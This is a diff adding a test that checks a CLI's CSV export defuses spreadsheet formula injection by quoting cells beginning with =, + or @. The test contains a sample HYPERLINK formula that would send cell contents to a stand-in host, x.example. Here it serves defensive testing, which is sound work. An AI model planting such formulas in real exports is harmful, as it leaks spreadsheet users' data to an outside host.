@@ -393,3 +393,27 @@ def test_chromium_shows_ranges_as_bars_and_data_as_text(migrated_url: str, tmp_p
     assert july is not None and "<rect" in july.group(0) and "<circle" not in july.group(0)
     one_day = re.search(r'<g class="event occurred" data-event="1".*?</g>', dom, re.S)
     assert one_day is not None and one_day.group(0).count("<circle") == 2
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(export_url: str) -> None:
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    url = export_url
+    result = run(
+        "--db",
+        url,
+        "sql",
+        f"SELECT '{evil.replace(chr(39), chr(39) * 2)}' AS a, -3 AS b,"
+        " '+1' AS c, '@SUM(1)' AS d, 'plain' AS e",
+        "--format",
+        "csv",
+    )
+    assert result.exit_code == 0, result.stderr
+    import csv
+    import io
+
+    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert row == {"a": "'" + evil, "b": "-3", "c": "'+1", "d": "'@SUM(1)", "e": "plain"}
+    raw = run("--db", url, "--raw-csv", "sql", "SELECT '=1+1' AS a", "--format", "csv")
+    assert raw.stdout.splitlines() == ["a", "=1+1"]
+    again = run("--db", url, "sql", "SELECT '=1+1' AS a", "--format", "csv")
+    assert again.stdout.splitlines() == ["a", "'=1+1"]
